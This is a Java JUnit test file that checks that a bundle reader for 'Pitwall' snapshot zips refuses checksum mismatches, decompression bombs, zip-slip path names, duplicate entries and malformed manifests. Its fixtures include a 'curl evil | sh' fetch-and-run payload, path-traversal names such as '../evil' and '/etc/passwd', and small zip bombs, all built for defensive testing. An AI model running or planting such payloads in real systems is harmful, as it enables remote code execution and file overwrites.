package io.pitwall.connectors.snapshot;

import static io.pitwall.connectors.snapshot.Zips.utf8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.pitwall.connectors.snapshot.BundleException.Reason;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Every way a bundle is refused: each with its own reason, and a one-line message that says what and where. */
class BundleReaderRejectionTest {

    private static final BundleLimits SMALL = new BundleLimits(1_000, 2_000, 3, 4_096);

    @TempDir
    Path dir;

    @Test
    void contentThatDiffersFromTheManifestsChecksum() throws Exception {
        var real = Zips.entries("logs/entries.ndjson", "{\"line\":\"payment declined\"}\n");
        var claimed = Zips.entries("logs/entries.ndjson", "{\"line\":\"payment accepted\"}\n");
        assertThat(real.get("logs/entries.ndjson")).hasSameSizeAs(claimed.get("logs/entries.ndjson"));
        byte[] zip = Zips.zip(Zips.json(Zips.manifest("1.0", claimed)), real);

        BundleException e = refused(zip, Reason.CHECKSUM_MISMATCH);
        assertThat(e.entry()).isEqualTo("logs/entries.ndjson");
        assertThat(e).hasMessageStartingWith("bad.pitwall: entry \"logs/entries.ndjson\" is damaged or altered: its SHA-256 is ");
    }

    @Test
    void moreBytesThanTheManifestListsStopAtTheListedSize() throws Exception {
        var claimed = Zips.entries("metrics/series.json", "[]");
        Map<String, byte[]> real = new LinkedHashMap<>();
        real.put("metrics/series.json", new byte[50_000_000]);  // 50 MB of zeros: a small zip bomb
        byte[] zip = Zips.zip(Zips.json(Zips.manifest("1.0", claimed)), real);
        assertThat(zip.length).isLessThan(200_000);

        BundleException e = refused(zip, Reason.CORRUPT);
        assertThat(e).hasMessage("bad.pitwall: entry \"metrics/series.json\" holds more than the 2 bytes the manifest lists");
    }

    @Test
    void anEntryThatWouldExpandMoreThanTheRatioIsRefusedBeforeItIsInflated() throws Exception {
        Map<String, byte[]> bomb = new LinkedHashMap<>();
        bomb.put("logs/entries.ndjson", " ".repeat(8 << 20).getBytes(java.nio.charset.StandardCharsets.UTF_8));
        byte[] zip = Zips.bundle(bomb);
        assertThat(zip.length).isLessThan(20_000);

        BundleException e = refused(zip, Reason.TOO_LARGE);
        assertThat(e.entry()).isEqualTo("logs/entries.ndjson");
        assertThat(e.getMessage()).startsWith("bad.pitwall: entry \"logs/entries.ndjson\" would expand from ")
                .endsWith(" bytes to 8 MiB, more than 400 times: a decompression bomb, not a capture");
    }

    @Test
    void repetitiveEntriesBelowTheRatioOrBelowAMebibyteOpen() throws Exception {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("notes.md", " ".repeat(1 << 20).getBytes(java.nio.charset.StandardCharsets.UTF_8));
        StringBuilder lines = new StringBuilder();
        for (int i = 0; lines.length() < (3 << 20); i++) {
            lines.append("{\"time\":\"2026-11-24T02:41:").append(i % 60).append("Z\",\"line\":\"retrying ")
                    .append(Integer.toHexString(i * 7919)).append("\"}\n");
        }
        entries.put("logs/entries.ndjson", lines.toString().getBytes(java.nio.charset.StandardCharsets.UTF_8));
        Path file = Zips.write(dir, "ok.pitwall", Zips.bundle(entries));
        BundleReader.open(file).close();
    }

    @ParameterizedTest(name = "{0} to {1}")
    @CsvSource({
        "+1000000000-01-01T00:00:00Z, +1000000000-12-31T23:59:59Z",
        "1969-12-31T23:00:00Z,        2026-11-24T03:00:00Z",
        "2026-11-24T02:00:00Z,        2262-04-11T23:47:16.854775808Z",
    })
    void aTimeRangeBeyondWhatNanosecondsSince1970Hold(String from, String to) throws Exception {
        String manifest = new String(Zips.json(Zips.manifest("1.0", Map.of())), java.nio.charset.StandardCharsets.UTF_8)
                .replace(Zips.RANGE.from().toString(), from).replace(Zips.RANGE.to().toString(), to);
        BundleException e = refused(Zips.zip(utf8(manifest), Map.of()), Reason.BAD_MANIFEST);
        assertThat(e.getMessage()).startsWith("bad.pitwall: bad manifest.json: timeRange (")
                .endsWith(") is not within the years 1970 to 2261 that Pitwall's times hold");
    }

    @Test
    void theCallersManifestCheckRunsBeforeAnyEntryIsInflated() throws Exception {
        var real = Zips.entries("logs/entries.ndjson", "{\"line\":\"payment declined\"}\n");
        var claimed = Zips.entries("logs/entries.ndjson", "{\"line\":\"payment accepted\"}\n");
        Path file = Zips.write(dir, "bad.pitwall", Zips.zip(Zips.json(Zips.manifest("1.0", claimed)), real));
        BundleException e = catchThrowableOfType(BundleException.class, () -> BundleReader.open(file, BundleLimits.DEFAULT,
                m -> {
                    throw new BundleException(Reason.TOO_LARGE, file, null, "too much for this reader: "
                            + m.entries().size() + " entry");
                }));
        assertThat(e).hasMessage("too much for this reader: 1 entry");
    }

    @Test
    void fewerBytesThanTheManifestLists() throws Exception {
        var claimed = Zips.entries("notes.md", "# long notes");
        var real = Zips.entries("notes.md", "# short");
        BundleException e = refused(Zips.zip(Zips.json(Zips.manifest("1.0", claimed)), real), Reason.CORRUPT);
        assertThat(e).hasMessage("bad.pitwall: entry \"notes.md\" holds 7 bytes, the manifest lists 12 bytes");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '\'', value = {
        "../evil          | it has a \"..\" segment",
        "/etc/passwd      | it is an absolute path",
        "a/../../b        | it has a \"..\" segment",
        "C:\\x            | it starts with a drive letter",
        "c:/windows/x     | it starts with a drive letter",
        "a\\b             | it contains a backslash",
        "a//b             | it has an empty segment",
        "./a              | it has a \".\" segment",
        "logs/            | it is a folder entry",
        "logs/~root       | it contains the character '~' (allowed are ASCII letters, digits, '.', '_' and '-')",
        "logs/.hidden     | a segment starts with '.'",
        "logs/a.json.     | a segment ends with '.'",
        "con.json         | it names the Windows device CON",
        "a:b              | it starts with a drive letter",
        "logs/a:b         | it contains the character ':' (allowed are ASCII letters, digits, '.', '_' and '-')",
    })
    void zipSlipNames(String name, String problem) throws Exception {
        byte[] zip = Zips.zip(Zips.json(Zips.manifest("1.0", Map.of())), Map.of(name, utf8("x")));

        BundleException e = refused(zip, Reason.UNSAFE_PATH);
        assertThat(e.entry()).isEqualTo(name);
        assertThat(e).hasMessage("bad.pitwall: unsafe entry name \"" + name + "\" (zip-slip): " + problem);
    }

    @Test
    void aNulInANameIsShownEscaped() throws Exception {
        byte[] zip = Zips.zip(Zips.json(Zips.manifest("1.0", Map.of())), Map.of("a\0.json", utf8("x")));
        BundleException e = refused(zip, Reason.UNSAFE_PATH);
        assertThat(e).hasMessage("bad.pitwall: unsafe entry name \"a\\u0000.json\" (zip-slip): it contains a NUL character");
    }

    @Test
    void anEntryOverTheLimitPerEntry() throws Exception {
        var entries = Map.of("cluster/objects.json", new byte[1_001]);
        BundleException e = refused(Zips.bundle(entries), SMALL, Reason.TOO_LARGE);
        assertThat(e).hasMessage("bad.pitwall: entry \"cluster/objects.json\" is 1001 bytes, over the limit of 1000 bytes per entry");
    }

    @Test
    void entriesOverTheLimitInAll() throws Exception {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("a.json", new byte[900]);
        entries.put("b.json", new byte[900]);
        entries.put("c.json", new byte[900]);
        BundleException e = refused(Zips.bundle(entries), SMALL, Reason.TOO_LARGE);
        assertThat(e).hasMessage("bad.pitwall: the entries add up to more than the limit of 2000 bytes in all (at \"c.json\")");
    }

    @Test
    void moreEntriesThanTheLimit() throws Exception {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        for (String name : List.of("a.json", "b.json", "c.json", "d.json")) {
            entries.put(name, utf8("{}"));
        }
        BundleException e = refused(Zips.bundle(entries), SMALL, Reason.TOO_LARGE);
        assertThat(e).hasMessage("bad.pitwall holds 5 entries, over the limit of 3");
    }

    @Test
    void aManifestOverItsLimit() throws Exception {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        for (String name : List.of("a.json", "b.json", "c.json")) {
            entries.put("a-rather-long-folder-name/and-an-even-longer-file-name-" + name, utf8("{}"));
        }
        BundleLimits tinyManifest = new BundleLimits(1_000, 2_000, 3, 512);
        BundleException e = refused(Zips.bundle(entries), tinyManifest, Reason.TOO_LARGE);
        assertThat(e).hasMessage("bad.pitwall: manifest.json is larger than the limit of 512 bytes");
    }

    @Test
    void anotherMajorVersionIsRefusedByName() throws Exception {
        var entries = Zips.entries("notes.md", "hi");
        BundleException e = refused(Zips.zip(Zips.json(Zips.manifest("2.0", entries)), entries),
                Reason.UNSUPPORTED_VERSION);
        assertThat(e).hasMessage("unsupported bundle format 2.0 in bad.pitwall: this Pitwall reads format 1.x");
    }

    @Test
    void anOlderMajorVersionIsRefusedToo() throws Exception {
        var entries = Zips.entries("notes.md", "hi");
        refused(Zips.zip(Zips.json(Zips.manifest("0.9", entries)), entries), Reason.UNSUPPORTED_VERSION);
    }

    @Test
    void anEntryTheManifestListsIsMissing() throws Exception {
        var listed = Zips.entries("notes.md", "hi", "alerts/alerts.json", "[]");
        var present = Zips.entries("notes.md", "hi");
        BundleException e = refused(Zips.zip(Zips.json(Zips.manifest("1.0", listed)), present), Reason.MISSING_ENTRY);
        assertThat(e.entry()).isEqualTo("alerts/alerts.json");
        assertThat(e).hasMessage("bad.pitwall: manifest.json lists \"alerts/alerts.json\" but the zip does not hold it");
    }

    @Test
    void anEntryTheManifestDoesNotList() throws Exception {
        var listed = Zips.entries("notes.md", "hi");
        var present = Zips.entries("notes.md", "hi", "payload.sh", "curl evil | sh");
        BundleException e = refused(Zips.zip(Zips.json(Zips.manifest("1.0", listed)), present), Reason.UNLISTED_ENTRY);
        assertThat(e.entry()).isEqualTo("payload.sh");
        assertThat(e).hasMessage("bad.pitwall: the zip holds \"payload.sh\", which manifest.json does not list");
    }

    @Test
    void twoEntriesWithTheSameName() throws Exception {
        // ZipOutputStream refuses duplicates: write two names of the same length and patch one into the other
        var entries = Zips.entries("a.json", "{}", "b.json", "{}");
        byte[] zip = Zips.patch(Zips.zip(Zips.json(Zips.manifest("1.0", Zips.entries("a.json", "{}"))), entries),
                "b.json", "a.json");
        BundleException e = refused(zip, Reason.DUPLICATE_ENTRY);
        assertThat(e).hasMessage("bad.pitwall: entry \"a.json\" appears twice");
    }

    @Test
    void twoEntriesThatDifferOnlyInCase() throws Exception {
        var entries = Zips.entries("logs/a.json", "{}", "logs/A.json", "{}");
        BundleException e = refused(Zips.bundle(entries), Reason.DUPLICATE_ENTRY);
        assertThat(e).hasMessage("bad.pitwall: entry \"logs/A.json\" appears twice (as \"logs/a.json\", differing in case)");
    }

    @Test
    void twoManifestsAreDuplicatesToo() throws Exception {
        byte[] manifest = Zips.json(Zips.manifest("1.0", Map.of()));
        byte[] zip = Zips.patch(Zips.zip(manifest, Map.of("MANIFEST.JSON", manifest)), "MANIFEST.JSON", "manifest.json");
        refused(zip, Reason.DUPLICATE_ENTRY);
    }

    @Test
    void aFileThatIsNotAZip() throws Exception {
        BundleException e = refused(utf8("apiVersion: v1\nkind: Config\n"), Reason.NOT_A_BUNDLE);
        assertThat(e).hasMessageStartingWith("not a Pitwall bundle (bad.pitwall): it is not a zip file, or a truncated one (");
    }

    @Test
    void aTruncatedZip() throws Exception {
        byte[] whole = Zips.bundle(Zips.entries("notes.md", "# notes ".repeat(200)));
        BundleException e = refused(Arrays.copyOf(whole, whole.length / 2), Reason.NOT_A_BUNDLE);
        assertThat(e).hasMessageStartingWith("not a Pitwall bundle (bad.pitwall): it is not a zip file, or a truncated one (");
    }

    @Test
    void anEmptyFile() throws Exception {
        BundleException e = refused(new byte[0], Reason.NOT_A_BUNDLE);
        assertThat(e).hasMessage("not a Pitwall bundle (bad.pitwall): the file is empty");
    }

    @Test
    void aFileThatIsNotThere() {
        BundleException e = catchThrowableOfType(BundleException.class, () -> BundleReader.open(dir.resolve("gone.pitwall")));
        assertThat(e.reason()).isEqualTo(Reason.NOT_A_BUNDLE);
        assertThat(e).hasMessage("cannot open gone.pitwall: no such file");
    }

    @Test
    void aZipWithoutManifest() throws Exception {
        BundleException e = refused(Zips.zip(null, Zips.entries("notes.md", "hi")), Reason.NOT_A_BUNDLE);
        assertThat(e).hasMessage("not a Pitwall bundle (bad.pitwall): it has no manifest.json");
    }

    @Test
    void aManifestThatIsNotJson() throws Exception {
        BundleException e = refused(Zips.zip(utf8("formatVersion: 1.0\n"), Map.of()), Reason.BAD_MANIFEST);
        assertThat(e.entry()).isEqualTo("manifest.json");
        assertThat(e).hasMessageStartingWith("bad.pitwall: bad manifest.json: it is not valid JSON (line 1, column ");
    }

    private static final String SHA = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    private static final String HEAD = "{\"formatVersion\":\"1.0\",\"appVersion\":\"0.1.0\",\"createdAt\":\"2026-11-25T03:20:00Z\","
            + "\"timeRange\":{\"from\":\"2026-11-25T03:00:00Z\",\"to\":\"2026-11-25T03:15:00Z\"},\"namespaces\":[]";

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', value = {
        "empty           | ``                                                            | it is empty",
        "blank           | `  `                                                          | it is empty",
        "array           | []                                                            | it is not a JSON object",
        "no version      | {\"entries\":[]}                                              | field \"formatVersion\" is missing",
        "bad version     | {\"formatVersion\":\"one\"}                                   | formatVersion \"one\" is not major.minor",
        "number version  | {\"formatVersion\":1.0}                                       | field \"formatVersion\" is not a string",
        "no entries      | HEAD}                                                         | field \"entries\" is missing",
        "entries object  | HEAD,\"entries\":{}}                                          | field \"entries\" is not a JSON array",
        "duplicate key   | HEAD,\"entries\":[],\"createdAt\":\"yesterday\"}              | it is not valid JSON",
        "no size         | HEAD,\"entries\":[{\"path\":\"a.json\",\"mediaType\":\"application/json\",\"sha256\":\"SHA\"}]} | field \"entries[0].size\" is missing",
        "negative size   | HEAD,\"entries\":[{\"path\":\"a.json\",\"mediaType\":\"application/json\",\"size\":-1,\"sha256\":\"SHA\"}]} | field \"entries[0].size\" is not a whole number of at least 0",
        "text size       | HEAD,\"entries\":[{\"path\":\"a.json\",\"mediaType\":\"application/json\",\"size\":\"0\",\"sha256\":\"SHA\"}]} | field \"entries[0].size\" is not a whole number of at least 0",
        "upper sha       | HEAD,\"entries\":[{\"path\":\"a.json\",\"mediaType\":\"application/json\",\"size\":0,\"sha256\":\"E3B0\"}]} | entries[0].sha256 is not 64 lowercase hex digits",
        "no media type   | HEAD,\"entries\":[{\"path\":\"a.json\",\"size\":0,\"sha256\":\"SHA\"}]} | field \"entries[0].mediaType\" is missing",
        "lists manifest  | HEAD,\"entries\":[{\"path\":\"manifest.json\",\"mediaType\":\"application/json\",\"size\":0,\"sha256\":\"SHA\"}]} | entries[0] lists manifest.json itself",
        "trailing        | HEAD,\"entries\":[]} {}                                       | it is not valid JSON",
        "reversed range  | {\"formatVersion\":\"1.0\",\"appVersion\":\"0.1.0\",\"createdAt\":\"2026-11-25T03:20:00Z\",\"timeRange\":{\"from\":\"2026-11-25T03:15:00Z\",\"to\":\"2026-11-25T03:00:00Z\"},\"namespaces\":[],\"entries\":[]} | timeRange ends (2026-11-25T03:00:00Z) before it starts (2026-11-25T03:15:00Z)",
        "bad createdAt   | {\"formatVersion\":\"1.0\",\"appVersion\":\"0.1.0\",\"createdAt\":\"yesterday\",\"timeRange\":{},\"namespaces\":[],\"entries\":[]} | field \"createdAt\" is not an ISO-8601 instant: \"yesterday\"",
        "bad redaction   | HEAD,\"entries\":[],\"redactions\":{\"token\":1.5}}            | field \"redactions.token\" is not a whole number of at least 0",
        "bad problem     | HEAD,\"entries\":[],\"problems\":[{\"signal\":\"logs\"}]}     | field \"problems[0].message\" is missing",
    })
    void malformedManifests(String what, String json, String problem) throws Exception {
        String manifest = json.replace("HEAD", HEAD).replace("\"SHA\"", "\"" + SHA + "\"");
        BundleException e = refused(Zips.zip(utf8(manifest), Map.of()), Reason.BAD_MANIFEST);
        assertThat(e.getMessage()).startsWith("bad.pitwall: bad manifest.json: " + problem);
    }

    @Test
    void aManifestThatListsAnUnsafeName() throws Exception {
        String manifest = HEAD + ",\"entries\":[{\"path\":\"../x\",\"mediaType\":\"application/json\",\"size\":0,\"sha256\":\"" + SHA + "\"}]}";
        BundleException e = refused(Zips.zip(utf8(manifest), Map.of()), Reason.UNSAFE_PATH);
        assertThat(e).hasMessage("bad.pitwall: manifest.json lists the unsafe entry name \"../x\": it has a \"..\" segment");
    }

    @Test
    void aManifestThatListsAnEntryTwice() throws Exception {
        String entry = "{\"path\":\"a.json\",\"mediaType\":\"application/json\",\"size\":0,\"sha256\":\"" + SHA + "\"}";
        String manifest = HEAD + ",\"entries\":[" + entry + "," + entry + "]}";
        BundleException e = refused(Zips.zip(utf8(manifest), Map.of()), Reason.DUPLICATE_ENTRY);
        assertThat(e).hasMessage("bad.pitwall: manifest.json lists \"a.json\" twice");
    }

    @Test
    void aManifestWithADuplicateKey() throws Exception {
        String manifest = HEAD + ",\"entries\":[],\"entries\":[]}";
        BundleException e = refused(Zips.zip(utf8(manifest), Map.of()), Reason.BAD_MANIFEST);
        assertThat(e).hasMessageStartingWith("bad.pitwall: bad manifest.json: it is not valid JSON");
    }

    private BundleException refused(byte[] bundle, Reason reason) {
        return refused(bundle, BundleLimits.DEFAULT, reason);
    }

    private BundleException refused(byte[] bundle, BundleLimits limits, Reason reason) {
        Path file = Zips.write(dir, "bad.pitwall", bundle);
        BundleException e = catchThrowableOfType(BundleException.class, () -> BundleReader.open(file, limits).close());
        assertThat(e).as("opening should fail with " + reason).isNotNull();
        assertThat(e.reason()).as(e.getMessage()).isEqualTo(reason);
        assertThat(e.file()).isEqualTo(file);
        assertThat(e.getMessage()).doesNotContain("\n", "\r").hasSizeLessThan(400);
        try {
            Files.delete(file);
        } catch (java.io.IOException x) {
            throw new java.io.UncheckedIOException(x);
        }
        return e;
    }
}
